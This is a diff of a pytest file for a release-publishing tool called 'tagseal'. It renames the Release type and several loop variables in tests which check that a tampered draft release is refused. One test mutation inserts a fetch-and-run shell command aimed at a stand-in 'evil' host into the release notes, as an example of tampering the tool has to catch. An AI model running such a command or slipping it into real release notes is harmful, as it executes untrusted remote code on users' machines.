@@ -22,7 +22,7 @@ if TYPE_CHECKING:
     from pathlib import Path
     from wsgiref.types import StartResponse, WSGIApplication, WSGIEnvironment
 
-    from tagseal.loopback.github.state import Release
+    from tagseal.loopback.github.state import PlayedRelease
 
     Records = tuple[Seal, Draft, Proof]
 
@@ -44,15 +44,15 @@ def published(released: Stage, records: Records, **plan: object) -> Publication:
 
 def refused(released: Stage, records: Records) -> TagsealError:
     """Return the error, having seen that the release was not flipped."""
-    before = [(one.id, one.draft) for one in released.repository.releases]
+    before = [(release.id, release.draft) for release in released.repository.releases]
     with pytest.raises(TagsealError) as caught:
         published(released, records)
-    assert [(one.id, one.draft) for one in released.repository.releases] == before
+    assert [(release.id, release.draft) for release in released.repository.releases] == before
     return caught.value
 
 
 def flips(released: Stage) -> int:
-    return sum(one.method == "PATCH" for one in released.loopback.transcript.entries)
+    return sum(entry.method == "PATCH" for entry in released.loopback.transcript.entries)
 
 
 def test_a_proven_draft_becomes_public(released: Stage) -> None:
@@ -90,31 +90,31 @@ def test_publishing_that_lost_its_answer_is_resumed(tmp_path: Path, monkeypatch:
         assert flips(released) == 1
 
 
-def renamed_tag(release: Release) -> None:
+def renamed_tag(release: PlayedRelease) -> None:
     release.tag_name = "v9.9.9"
 
 
-def without_wheel(release: Release) -> None:
-    release.assets = [one for one in release.assets if one.name != WHEEL]
+def without_wheel(release: PlayedRelease) -> None:
+    release.assets = [asset for asset in release.assets if asset.name != WHEEL]
 
 
-def with_extra(release: Release) -> None:
+def with_extra(release: PlayedRelease) -> None:
     release.assets[0].name = "extra.bin"
 
 
-def other_bytes(release: Release) -> None:
+def other_bytes(release: PlayedRelease) -> None:
     release.assets[0].sha256 = "e" * 64
 
 
-def edited_notes(release: Release) -> None:
+def edited_notes(release: PlayedRelease) -> None:
     release.body = release.body.replace("gh release", "curl evil | sh # gh release", 1)
 
 
-def uploaded_again(release: Release) -> None:
+def uploaded_again(release: PlayedRelease) -> None:
     release.assets[0].id += 1000
 
 
-def flagged(release: Release) -> None:
+def flagged(release: PlayedRelease) -> None:
     release.prerelease = True
 
 
@@ -131,7 +131,7 @@ def flagged(release: Release) -> None:
     ],
 )
 def test_a_draft_that_changed_after_the_proof_is_not_published(
-    released: Stage, change: Callable[[Release], None], slug: str
+    released: Stage, change: Callable[[PlayedRelease], None], slug: str
 ) -> None:
     """The draft is read again: tag, names, sizes, digests, asset ids, notes and flags are those that were proven."""
     records = proven(released)
@@ -240,7 +240,7 @@ def test_a_change_between_any_two_requests_is_not_published_or_is_told(
         services = released.services(run=None)
         whole = copy.deepcopy(released.repository.by_id[draft.id])
 
-        def attempt(at: int, change: Callable[[Release], None]) -> tuple[int, Release]:
+        def attempt(at: int, change: Callable[[PlayedRelease], None]) -> tuple[int, PlayedRelease]:
             release = released.repository.by_id[draft.id] = copy.deepcopy(whole)
             meddler.begin(at, lambda: change(release))
             try:
@@ -261,8 +261,8 @@ def test_a_change_between_any_two_requests_is_not_published_or_is_told(
     assert {(0, False), (1, True), (1, False)} == set(told)
 
 
-def _content(release: Release) -> tuple[object, ...]:
-    assets = tuple((one.id, one.name, one.size, one.sha256) for one in release.assets)
+def _content(release: PlayedRelease) -> tuple[object, ...]:
+    assets = tuple((asset.id, asset.name, asset.size, asset.sha256) for asset in release.assets)
     return release.tag_name, release.body, release.prerelease, assets
 
 
@@ -272,7 +272,7 @@ def test_a_tag_that_moves_while_it_is_published_is_told(tmp_path: Path, monkeypa
     with stage(tmp_path, monkeypatch, hosts={"api.github.com": meddler}) as released:
         meddler.behind = released.loopback.github.hosts["api.github.com"]
         records = proven(released)
-        patches = [one.method for one in released.loopback.transcript.entries].count("PATCH")
+        patches = [entry.method for entry in released.loopback.transcript.entries].count("PATCH")
 
         def move() -> None:
             released.repository.add_tag("v1.2.3", "e" * 40)
@@ -290,9 +290,9 @@ def test_one_release_is_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) ->
         seal = released.sign()
         released.repository.stale = [()] * 3
         draft = released.upload(seal)
-        assert [len(one.assets) for one in released.repository.releases] == [6, 0]
+        assert [len(release.assets) for release in released.repository.releases] == [6, 0]
         published(released, (seal, draft, proof_of(draft)))
-        assert [one.draft for one in released.repository.releases] == [False]
+        assert [release.draft for release in released.repository.releases] == [False]
 
 
 class Late:
@@ -300,7 +300,7 @@ class Late:
 
     def __init__(self) -> None:
         self.behind: WSGIApplication | None = None
-        self.release: Release | None = None
+        self.release: PlayedRelease | None = None
         self.flipped = False
         self.left = 0
 
